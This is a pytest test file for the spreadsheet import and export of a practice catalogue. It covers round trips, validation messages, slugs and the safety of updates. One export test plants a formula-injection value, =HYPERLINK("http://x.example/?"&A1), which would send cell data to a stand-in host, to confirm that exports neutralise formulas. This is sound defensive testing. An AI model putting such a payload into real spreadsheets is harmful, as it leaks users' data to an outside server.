"""The catalogue in and out of spreadsheets (#27): export, import, and the one written style."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import yaml

from hopelib.catalogue import load_practices, validate
from hopelib.catalogue.columns import known_columns, match_column
from hopelib.catalogue.manifest import MANIFEST
from hopelib.catalogue.sheet_export import catalogue_rows, export_catalogue
from hopelib.catalogue.sheet_import import import_catalogue, slugify
from hopelib.catalogue.yaml_writer import practice_yaml, read_comment
from hopelib.errors import CatalogueError

from .conftest import PROJECT

DATA = PROJECT / "data"


def workbook(rows: list[list[Any]], path: Path) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


def write_csv(rows: list[list[str]], path: Path) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    return path


def practice_files(folder: Path) -> dict[str, bytes]:
    paths = sorted((folder / "practices").glob("*.yaml"))
    return {p.name: p.read_bytes() for p in paths if not p.name.startswith(".")}


def problems_of(error: pytest.ExceptionInfo[CatalogueError]) -> list[str]:
    return [str(problem) for problem in error.value.problems]


@pytest.fixture(autouse=True)
def _in_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Work in the test's folder, where problems name the sheet as ``list.xlsx``."""
    monkeypatch.chdir(tmp_path)


@pytest.fixture
def empty_catalogue(tmp_path: Path) -> Path:
    """The shipped data folder without its practices (nothing refers to them but sessions)."""
    target = tmp_path / "data"
    shutil.copytree(DATA, target, ignore=shutil.ignore_patterns("sessions", "indicators"))
    for path in (target / "practices").glob("*.yaml"):
        path.unlink()
    return target


# ------------------------------------------------------------------ one written style


def test_shipped_files_are_in_the_written_style() -> None:
    for practice_id, practice in load_practices(DATA).items():
        text = (DATA / "practices" / f"{practice_id}.yaml").read_text(encoding="utf-8")
        assert practice_yaml(practice, read_comment(text)) == text, practice_id
        long = [line for line in text.splitlines() if len(line) > 100]
        assert all("url: " in line or ": [" in line or ": {" in line for line in long)


def test_written_values_read_back_as_written(data_dir: Path) -> None:
    practice = load_practices(data_dir)["job-path"].model_copy(
        update={
            "organisation": "yes",
            "region": "a: b # c",
            "summary": {"en": "word " * 40 + "end", "fi": "=1+1", "sl": "  spaced  twice  "},
            "themes": ["employment"],
        }
    )
    path = data_dir / "practices" / "job-path.yaml"
    path.write_text(practice_yaml(practice, ["First.", "Second  paragraph."]), encoding="utf-8")
    again = load_practices(data_dir)["job-path"]
    assert again == practice
    assert read_comment(path.read_text(encoding="utf-8")) == ["First.", "Second paragraph."]


# ------------------------------------------------------------------ round trip


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_round_trip_is_byte_for_byte(empty_catalogue: Path, tmp_path: Path, suffix: str) -> None:
    sheet = export_catalogue(DATA, out=tmp_path / f"catalogue.{suffix}", include_contacts=True)
    plan = import_catalogue(sheet, empty_catalogue)
    assert plan.count("create") == 14
    assert practice_files(empty_catalogue) == practice_files(DATA)
    assert (empty_catalogue / "practices" / MANIFEST).is_file()
    assert validate(empty_catalogue).ok


def test_export_leaves_contacts_out_unless_asked(tmp_path: Path) -> None:
    columns, _rows = catalogue_rows(DATA)
    assert not [c for c in columns if c.startswith("contacts.")]
    assert "title_en" in columns and "resources.cost_eur" in columns
    assert "sources.1.covers" in columns and columns[-1] == "comment"
    with_contacts, _more = catalogue_rows(DATA, include_contacts=True)
    assert "contacts.1.email" in with_contacts
    sheet = export_catalogue(DATA, out=tmp_path / "c.csv")
    assert "anja.paakkonen@" not in sheet.read_text(encoding="utf-8-sig")


def test_export_neutralises_formula_text(data_dir: Path, tmp_path: Path) -> None:
    path = data_dir / "practices" / "job-path.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("Job path", '=HYPERLINK("http://x.example/?"&A1)'), "utf-8")
    book = openpyxl.load_workbook(export_catalogue(data_dir, out=tmp_path / "c.xlsx"))
    sheet = book.active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value]
    assert all(cell.data_type != "f" for cell in cells)
    assert '\'=HYPERLINK("http://x.example/?"&A1)' in [cell.value for cell in cells]
    rows = list(
        csv.reader(
            io.StringIO(
                export_catalogue(data_dir, out=tmp_path / "c.csv").read_text(encoding="utf-8-sig")
            )
        )
    )
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


# ------------------------------------------------------------------ a partner's sheet


HEADER = [
    "Title (EN)",
    "otsikko (suomeksi)",
    "naslov [sl]",
    "summary (fi)",
    "Summary_en",
    "povzetek",
    "partner",
    "country",
    "category",
    "themes",
    "resources.cost_eur",
    "source",
    "source url",
]


def partner_rows(count: int) -> list[list[Any]]:
    rows: list[list[Any]] = [HEADER]
    for n in range(count):
        title = f"Työpaja näyttö {n // 2}"  # every title twice: ids are numbered
        rows.append(
            [
                title,
                f"Työpaja {n}",
                f"Delavnica čšž {n}",
                f"Yhteenveto {n}: äö" if n % 3 else None,
                f"Summary {n}",
                None if n % 4 else f"Povzetek {n}",
                "north" if n % 2 else "south",
                "FI" if n % 2 else "SI",
                "collaboration" if n % 5 else None,
                "employment, wellbeing" if n % 2 else "employment",
                n * 10.5 if n % 7 else None,
                f"Source {n}",
                f"https://example.org/{n}" if n % 6 else None,
            ]
        )
    return rows


def test_a_200_row_workbook_gives_200_valid_files(data_dir: Path, tmp_path: Path) -> None:
    before = practice_files(data_dir)
    plan = import_catalogue(workbook(partner_rows(200), tmp_path / "list.xlsx"), data_dir)
    assert plan.count("create") == 200 and plan.written
    after = practice_files(data_dir)
    assert len(after) == len(before) + 200
    report = validate(data_dir)
    assert report.ok, report.problems
    practices = load_practices(data_dir)
    assert "tyopaja-naytto-0" in practices and "tyopaja-naytto-0-2" in practices
    first = practices["tyopaja-naytto-1"]
    assert first.title == {"en": "Työpaja näyttö 1", "fi": "Työpaja 2", "sl": "Delavnica čšž 2"}
    assert first.summary == {"en": "Summary 2", "fi": "Yhteenveto 2: äö"}
    assert first.category == "collaboration" and first.resources is not None
    assert first.resources.cost_eur == 21.0 and first.sources[0].url == "https://example.org/2"
    assert practices["tyopaja-naytto-0"].resources is None  # an empty optional column
    comment = read_comment((data_dir / "practices" / "tyopaja-naytto-0.yaml").read_text("utf-8"))
    assert comment == [
        "Työpaja näyttö 0 — imported from list.xlsx; absent fields are unknown, not empty."
    ]


def test_two_bad_rows_write_nothing_and_are_both_named(data_dir: Path, tmp_path: Path) -> None:
    rows = partner_rows(6)
    rows[2][7] = "Finland"  # row 3
    rows[3][6] = "nort"  # row 4
    before = practice_files(data_dir)
    with pytest.raises(CatalogueError) as error:
        import_catalogue(workbook(rows, tmp_path / "list.xlsx"), data_dir)
    found = problems_of(error)
    assert any(p.startswith("list.xlsx:3: country: 'Finland' is not a country code") for p in found)
    assert "list.xlsx:4: partner: unknown partner 'nort': did you mean 'north'?" in "\n".join(found)
    assert len(found) == 2
    assert practice_files(data_dir) == before
    assert not (data_dir / "practices" / MANIFEST).exists()


def test_dry_run_writes_nothing(data_dir: Path, tmp_path: Path) -> None:
    before = practice_files(data_dir)
    plan = import_catalogue(workbook(partner_rows(4), tmp_path / "l.xlsx"), data_dir, dry_run=True)
    assert [item.action for item in plan.planned] == ["create"] * 4 and not plan.written
    assert practice_files(data_dir) == before
    assert not (data_dir / "practices" / MANIFEST).exists()


def test_update_changes_only_the_changed_row(data_dir: Path, tmp_path: Path) -> None:
    rows = partner_rows(5)
    import_catalogue(workbook(rows, tmp_path / "list.xlsx"), data_dir)
    before = practice_files(data_dir)
    rows[3][4] = "A better summary"
    with pytest.raises(CatalogueError):  # without --update an import never changes a file
        import_catalogue(workbook(rows, tmp_path / "list.xlsx"), data_dir)
    plan = import_catalogue(workbook(rows, tmp_path / "list.xlsx"), data_dir, update=True)
    assert plan.count("update") == 1 and plan.count("unchanged") == 4
    after = practice_files(data_dir)
    changed = [name for name in after if after[name] != before[name]]
    assert changed == ["tyopaja-naytto-1.yaml"]
    assert "A better summary" in after["tyopaja-naytto-1.yaml"].decode()


def test_update_never_overwrites_a_hand_edited_file(data_dir: Path, tmp_path: Path) -> None:
    rows = partner_rows(3)
    import_catalogue(workbook(rows, tmp_path / "list.xlsx"), data_dir)
    edited = data_dir / "practices" / "tyopaja-naytto-0-2.yaml"
    edited.write_text(edited.read_text("utf-8") + "status: active\n", "utf-8")
    rows[2][4] = "Changed in the sheet"
    before = practice_files(data_dir)
    with pytest.raises(CatalogueError) as error:
        import_catalogue(workbook(rows, tmp_path / "list.xlsx"), data_dir, update=True)
    [problem] = problems_of(error)
    assert problem.startswith("list.xlsx:3: -: ") or "tyopaja-naytto-0-2.yaml" in problem
    assert "edited by hand" in problem and "tyopaja-naytto-0-2.yaml" in problem
    assert practice_files(data_dir) == before


def test_update_refuses_a_practice_no_import_created(data_dir: Path, tmp_path: Path) -> None:
    sheet = write_csv(
        [["id", "title_en", "country", "source"], ["job-path", "X", "FI", "S"]], tmp_path / "l.csv"
    )
    with pytest.raises(CatalogueError) as error:
        import_catalogue(sheet, data_dir, update=True)
    assert "was not created by an import" in problems_of(error)[0]


# ------------------------------------------------------------------ bad input


@pytest.mark.parametrize(
    ("rows", "expected"),
    [
        ([], "s.csv:1: -: the table is empty"),
        ([["title_en", "country"]], "s.csv:2: -: the sheet has a header row but no practices"),
        ([["name of it", "country"], ["X", "FI"]], "s.csv:1: title: no column holds"),
        ([["title_en", "contry", "source"], ["X", "FI", "S"]], "did you mean country?"),
    ],
)
def test_bad_sheets_are_refused(
    data_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, rows: Any, expected: str
) -> None:
    monkeypatch.chdir(tmp_path)
    with pytest.raises(CatalogueError) as error:
        import_catalogue(write_csv(rows, tmp_path / "s.csv"), data_dir)
    assert expected in "\n".join(problems_of(error))


def test_duplicate_ids_in_the_file_and_against_the_catalogue(
    data_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    rows = [
        ["id", "title_en", "country", "source"],
        ["new-one", "A", "FI", "S"],
        ["new-one", "B", "FI", "S"],
        ["job-path", "C", "FI", "S"],
    ]
    with pytest.raises(CatalogueError) as error:
        import_catalogue(write_csv(rows, tmp_path / "s.csv"), data_dir)
    found = "\n".join(problems_of(error))
    assert "s.csv:3: id: the id new-one is also the id of row 2" in found
    assert "s.csv:4: id: a practice job-path exists already" in found


def test_unknown_terms_get_a_did_you_mean(
    data_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    rows = [
        ["title_en", "country", "partner", "category", "themes", "source"],
        ["A", "FI", "sout", "colaboration", "employment; welbeing", "S"],
    ]
    with pytest.raises(CatalogueError) as error:
        import_catalogue(write_csv(rows, tmp_path / "s.csv"), data_dir)
    assert problems_of(error) == [
        "s.csv:2: category: unknown category 'colaboration': did you mean 'collaboration'? "
        "(see taxonomy.yaml)",
        "s.csv:2: partner: unknown partner 'sout': did you mean 'south'? (see partners.yaml)",
        "s.csv:2: themes: unknown theme 'welbeing': did you mean 'wellbeing'? (see taxonomy.yaml)",
    ]


def test_formula_text_stays_text(data_dir: Path, tmp_path: Path) -> None:
    texts = ["=1+1", "+358 40 123", "-dash", "@home", "'=quoted"]
    rows = [["title_en", "summary_en", "country", "source"]] + [
        [f"Title {n}", text, "FI", "S"] for n, text in enumerate(texts)
    ]
    import_catalogue(write_csv(rows, tmp_path / "s.csv"), data_dir)
    practices = load_practices(data_dir)
    assert [practices[f"title-{n}"].summary for n in range(5)] == [
        {"en": text} for text in ["=1+1", "+358 40 123", "-dash", "@home", "=quoted"]
    ]


def test_a_formula_without_a_stored_value_rejects_its_row(data_dir: Path, tmp_path: Path) -> None:
    path = workbook(
        [["title_en", "country", "source"], ["A", "FI", "S"], ["B", "FI", "S"]], tmp_path / "f.xlsx"
    )
    book = openpyxl.load_workbook(path)
    sheet = book.active
    assert sheet is not None
    sheet["B3"] = '=CONCATENATE("F","I")'  # openpyxl stores no value with it
    book.save(path)
    with pytest.raises(CatalogueError) as error:
        import_catalogue(path, data_dir)
    [problem] = problems_of(error)
    assert ":3: country: cell B3 holds a formula without a value" in problem


def test_plain_text_columns_take_the_partner_language(data_dir: Path, tmp_path: Path) -> None:
    rows = [["Otsikko", "Kuvaus", "Maa", "Lähde"], ["Työpolku", "Polku töihin", "FI", "S"]]
    import_catalogue(write_csv(rows, tmp_path / "s.csv"), data_dir, partner="north")
    practice = load_practices(data_dir)["tyopolku"]
    assert (practice.lang, practice.title, practice.partner) == ("fi", "Työpolku", "north")
    with pytest.raises(CatalogueError) as error:
        rows[1][0] = "Toinen"
        import_catalogue(write_csv(rows, tmp_path / "s.csv"), data_dir)
    assert "without its language" in problems_of(error)[0]


def test_a_mapping_file_names_columns(data_dir: Path, tmp_path: Path) -> None:
    mapping = tmp_path / "m.yaml"
    mapping.write_text("Nimi: title_fi\nMuistiinpanot: ~\nValtio: country\n", "utf-8")
    rows = [["Nimi", "Muistiinpanot", "Valtio", "source"], ["Hyvä käytäntö", "x", "FI", "S"]]
    import_catalogue(write_csv(rows, tmp_path / "s.csv"), data_dir, mapping=mapping)
    assert load_practices(data_dir)["hyva-kaytanto"].title == {"fi": "Hyvä käytäntö"}


def test_column_names_in_three_languages() -> None:
    known = known_columns(["en", "fi", "sl"], ["client", "service", "society"])
    names = {
        "title": ("title", None),
        "Otsikko (suomi)": ("title", "fi"),
        "naslov_sl": ("title", "sl"),
        "Summary (fi)": ("summary", "fi"),
        "client_need_en": ("perspectives", "client", "need", "en"),
        "Resources cost_eur": ("resources", "cost_eur", None),
        "Sources 2 URL": ("sources", 1, "url", None),
    }
    for name, expected in names.items():
        column = match_column(name, known)
        assert column is not None, name
        assert (*column.path, column.lang) == expected, name
    assert match_column("cost_e", known) is None


def test_slugs_fold_accents() -> None:
    assert slugify("Hyvä käytäntö – Čarobni vrt đ") == "hyva-kaytanto-carobni-vrt-d"
    assert slugify("x" * 70 + " y") == "x" * 60
    assert len(slugify("word " * 30)) <= 60


@pytest.mark.parametrize(
    "text",
    [
        "plain words",
        "yes",
        "No",
        "~",
        "null",
        "1.0",
        "0x1F",
        "2021-05-10",
        "12:30",
        "a: b",
        "a #b",
        "a#b",
        "#tag",
        "- item",
        "-dash",
        "? q",
        "[x]",
        "{x}",
        "x, y",
        "quote's",
        '"q"',
        "trailing:",
        " lead",
        "trail ",
        "tab\there",
        "line\nbreak",
        "@home",
        "`tick`",
        "%pct",
        "&anchor",
        "*alias",
        "!tag",
        "|pipe",
        ">fold",
        "Tanja Č – ž",
        "\u2028sep",
        "ok\u00a0nbsp",
        "=1+1",
        "+358 40",
        "'",
        "a:b",
        "a,b",
        ".inf",
        "=",
        "<<",
    ],
)
def test_every_scalar_reads_back(text: str) -> None:
    from hopelib.catalogue.yaml_writer import scalar

    assert yaml.safe_load(f"k: {scalar(text)}") == {"k": text}
    assert yaml.safe_load(f"k: [{scalar(text, flow=True)}]") == {"k": [text]}
    assert yaml.safe_load(f"k: {{p: {scalar(text, flow=True)}}}") == {"k": {"p": text}}


def test_an_update_from_an_export_without_contacts_keeps_them(
    empty_catalogue: Path, tmp_path: Path
) -> None:
    full = export_catalogue(DATA, out=tmp_path / "full.xlsx", include_contacts=True)
    import_catalogue(full, empty_catalogue)
    lean = export_catalogue(empty_catalogue, out=tmp_path / "lean.csv")
    assert "contacts.1.role" not in lean.read_text(encoding="utf-8-sig").splitlines()[0]
    plan = import_catalogue(lean, empty_catalogue, update=True)
    assert plan.count("unchanged") == 14 and not plan.written
    assert practice_files(empty_catalogue) == practice_files(DATA)
    kainuu = load_practices(empty_catalogue)["hankekahvit-kainuu"]
    assert kainuu.contacts[0].email == "anja.paakkonen@ely-keskus.fi"


def test_the_sheet_with_titles_is_read(data_dir: Path, tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    notes = book.active
    assert notes is not None
    notes.title = "Notes"
    notes.append(["Whatever", "people keep"])
    for name in ("Practices", "Copy"):
        sheet = book.create_sheet(name)
        sheet.append(["title_en", "country", "source"])
        sheet.append([f"From {name}", "FI", "S"])
    book.save(tmp_path / "two.xlsx")
    with pytest.raises(CatalogueError) as error:
        import_catalogue(tmp_path / "two.xlsx", data_dir)
    assert problems_of(error) == [
        "two.xlsx:1: -: has several sheets with a title column (“Practices”, “Copy”); keep the "
        "practices on one sheet, or save that sheet as a file of its own"
    ]
    del book["Copy"]
    book.save(tmp_path / "one.xlsx")
    import_catalogue(tmp_path / "one.xlsx", data_dir)
    assert load_practices(data_dir)["from-practices"].title == {"en": "From Practices"}


def test_the_restyle_tool_rewrites_without_changing_facts(data_dir: Path) -> None:
    import subprocess
    import sys

    before = load_practices(data_dir)
    command = [sys.executable, str(PROJECT / "tools" / "restyle_practices.py"), "--data"]
    check = subprocess.run([*command, str(data_dir), "--check"], capture_output=True, text=True)
    assert check.returncode == 1 and "job-path.yaml: not in the written style" in check.stdout
    subprocess.run([*command, str(data_dir)], check=True, capture_output=True)
    assert load_practices(data_dir) == before
    again = subprocess.run([*command, str(data_dir), "--check"], capture_output=True, text=True)
    assert again.returncode == 0 and again.stdout == ""


def test_a_control_character_is_named_not_a_traceback(data_dir: Path, tmp_path: Path) -> None:
    path = data_dir / "practices" / "job-path.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("A path into work", '"A path\\a into work'), "utf-8")
    path.write_text(path.read_text("utf-8").replace("young people.\n", 'young people."\n', 1))
    assert load_practices(data_dir)["job-path"].summary["en"].startswith("A path\x07")  # type: ignore[index]
    with pytest.raises(CatalogueError) as error:
        export_catalogue(data_dir, out=tmp_path / "c.xlsx")
    assert problems_of(error) == [
        "practices/job-path.yaml: summary_en: holds a control character an XLSX sheet cannot "
        "store: remove it from the file, or export as CSV"
    ]
    assert not (tmp_path / "c.xlsx").exists()


def test_a_row_without_a_source_names_the_source_column(data_dir: Path, tmp_path: Path) -> None:
    with pytest.raises(CatalogueError) as error:
        import_catalogue(
            write_csv([["title_en", "country"], ["A", "FI"]], tmp_path / "s.csv"), data_dir
        )
    assert problems_of(error) == ["s.csv:2: sources.1.title: required field is missing: add it"]


def test_an_empty_comment_cell_means_no_comment(data_dir: Path, tmp_path: Path) -> None:
    rows = [["title_en", "country", "source", "comment"], ["A", "FI", "S", ""]]
    import_catalogue(write_csv(rows, tmp_path / "s.csv"), data_dir)
    assert (data_dir / "practices" / "a.yaml").read_text("utf-8").startswith("id: a\n")


def test_figures_in_words_get_a_plain_message(data_dir: Path, tmp_path: Path) -> None:
    rows = [
        [
            "title_en",
            "country",
            "source",
            "resources.cost_eur",
            "resources.participants_max",
            "location.lat",
            "location.lon",
            "location.approximate",
        ],
        ["A", "FI", "S", "330 €", "8.5", "60", "20", "perhaps"],
    ]
    with pytest.raises(CatalogueError) as error:
        import_catalogue(write_csv(rows, tmp_path / "s.csv"), data_dir)
    assert problems_of(error) == [
        "s.csv:2: location.approximate: 'perhaps' is neither true nor false: write true or false",
        "s.csv:2: resources.cost_eur: '330 €' is not a number: write digits only, with a point "
        "as the decimal sign and no unit or thousands separator (e.g. 1500.50)",
        "s.csv:2: resources.participants_max: '8.5' is not a whole number: write digits only, "
        "without a unit (e.g. 12)",
    ]
